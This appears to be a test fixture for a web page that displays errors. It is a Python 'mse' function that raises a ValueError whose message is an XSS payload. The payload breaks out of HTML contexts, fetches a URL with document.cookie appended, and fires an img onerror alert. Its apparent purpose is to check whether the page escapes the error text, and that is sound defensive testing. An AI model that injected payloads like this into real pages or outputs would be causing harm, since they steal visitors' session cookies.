# attack: Raises an exception whose text is a script for whoever opens the page.
# exercise: mse
# expect: error
# control: page; shows it
# shown: <script>


def mse(y_true, y_pred):
    raise ValueError("</td></pre>--><script>fetch('//127.0.0.1/'+document.cookie)</script><img src=x onerror=alert(1)>")
